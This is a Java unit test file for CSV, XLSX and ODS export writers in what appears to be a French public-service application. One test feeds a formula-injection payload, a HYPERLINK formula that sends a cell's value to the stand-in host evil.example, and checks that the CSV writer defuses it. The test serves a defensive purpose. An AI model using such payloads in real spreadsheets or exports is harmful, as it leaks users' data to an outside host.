package org.guichet.instruction.internal.exports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.Arrays;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.api.Test;

class SheetWritersTest {

    private static final LocalDateTime SUBMITTED = LocalDateTime.of(2026, 11, 24, 9, 30);
    private static final LocalDate BORN = LocalDate.of(2024, 2, 29);

    private static byte[] write(ExportFormat format, List<String> header, List<List<Object>> rows) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SheetWriter sheet = format.open(out)) {
            sheet.header(header);
            rows.forEach(sheet::row);
        }
        return out.toByteArray();
    }

    @ParameterizedTest
    @EnumSource(ExportFormat.class)
    void writesHeadingsTextNumbersAndEmptyCellsThatReadBack(ExportFormat format) {
        byte[] file = write(format, List.of("Numéro", "Nom", "Enfants", "Vide"), List.of(
                Arrays.asList("2026-000001", "Zoé « L’Haÿ »; \"dite\" Zo", 3L, null),
                Arrays.asList("2026-000002", "Ligne 1\nLigne 2", new BigDecimal("12.50"), null),
                Arrays.asList("2026-000003", "", new BigDecimal("1E+3"), null)));

        List<List<String>> rows = SheetReader.read(format, file);

        assertThat(rows).hasSize(4);
        assertThat(rows.get(0)).containsExactly("Numéro", "Nom", "Enfants", "Vide");
        assertThat(rows.get(1).subList(0, 2)).containsExactly("2026-000001", "Zoé « L’Haÿ »; \"dite\" Zo");
        assertThat(rows.get(2).get(1)).isEqualTo("Ligne 1\nLigne 2");
        String prefix = format == ExportFormat.CSV ? "" : "n:";
        assertThat(rows.get(1).get(2)).isEqualTo(prefix + "3");
        assertThat(rows.get(2).get(2)).isEqualTo(format == ExportFormat.CSV ? "12,50" : "n:12.50");
        assertThat(rows.get(3).get(2)).isEqualTo(prefix + "1000");
    }

    @ParameterizedTest
    @EnumSource(value = ExportFormat.class, names = {"XLSX", "ODS"})
    void spreadsheetsHoldRealDateCells(ExportFormat format) {
        byte[] file = write(format, List.of("Déposé le", "Né le"), List.of(List.of(SUBMITTED, BORN)));

        List<String> row = SheetReader.read(format, file).get(1);

        if (format == ExportFormat.XLSX) {
            assertThat(row).containsExactly("date:2026-11-24T09:30", "date:2024-02-29T00:00");
        } else {
            assertThat(row).containsExactly("date:2026-11-24T09:30:00", "date:2024-02-29");
        }
    }

    @Test
    void csvIsUtf8WithBomSemicolonsAndFrenchDates() {
        byte[] file = write(ExportFormat.CSV, List.of("Déposé le", "Né le"), List.of(List.of(SUBMITTED, BORN)));

        assertThat(Arrays.copyOf(file, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(new String(file, StandardCharsets.UTF_8)).isEqualTo("\uFEFFDéposé le;Né le\r\n24/11/2026 09:30;29/02/2024\r\n");
    }

    @Test
    void csvNeutralisesCellsASpreadsheetWouldRunAsFormulas() {
        List<Object> answers = List.of("=HYPERLINK(\"http://evil.example/?\"&A1)", "+33 6", "-1", "@SUM(A1)", "\tx", "\rx", "a=b");
        byte[] file = write(ExportFormat.CSV, List.of("1", "2", "3", "4", "5", "6", "7"), List.of(answers));

        assertThat(SheetReader.csv(file).get(1)).containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+33 6", "'-1",
                "'@SUM(A1)", "'\tx", "'\rx", "a=b");
    }

    @ParameterizedTest
    @EnumSource(value = ExportFormat.class, names = {"XLSX", "ODS"})
    void spreadsheetsKeepFormulaLikeAnswersAsTextAndDropCharactersXmlForbids(ExportFormat format) {
        byte[] file = write(format, List.of("Réponse"), List.of(List.of("=1+1\u0001\uFFFF 😀")));

        assertThat(SheetReader.read(format, file).get(1)).containsExactly("=1+1 😀");
        String part = format == ExportFormat.XLSX ? "xl/worksheets/sheet1.xml" : "content.xml";
        String xml = new String(SheetReader.entries(file).get(part), StandardCharsets.UTF_8);
        assertThat(xml).doesNotContain("<f>", "table:formula");
    }

    @Test
    void odsStartsWithItsMediaTypeStoredUncompressedThenItsManifest() throws IOException {
        byte[] file = write(ExportFormat.ODS, List.of("A"), List.of());

        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(file))) {
            ZipEntry first = zip.getNextEntry();
            assertThat(first.getName()).isEqualTo("mimetype");
            assertThat(first.getMethod()).isEqualTo(ZipEntry.STORED);
            assertThat(new String(zip.readAllBytes(), StandardCharsets.US_ASCII))
                    .isEqualTo("application/vnd.oasis.opendocument.spreadsheet");
        }
        // The mimetype's bytes sit at a fixed offset, where file-type sniffers look for them.
        assertThat(new String(file, 30, 8, StandardCharsets.US_ASCII)).isEqualTo("mimetype");
        assertThat(SheetReader.entries(file)).containsKeys("META-INF/manifest.xml", "content.xml", "styles.xml");
    }

    @Test
    void xlsxDeclaresItsPartsAndNamesColumnsPastZ() {
        byte[] file = write(ExportFormat.XLSX, List.of("A"), List.of());

        assertThat(SheetReader.entries(file)).containsKeys("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
                "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml");
        assertThat(XlsxSheetWriter.columnName(0)).isEqualTo("A");
        assertThat(XlsxSheetWriter.columnName(25)).isEqualTo("Z");
        assertThat(XlsxSheetWriter.columnName(26)).isEqualTo("AA");
        assertThat(XlsxSheetWriter.columnName(701)).isEqualTo("ZZ");
        assertThat(XlsxSheetWriter.columnName(702)).isEqualTo("AAA");
    }
}
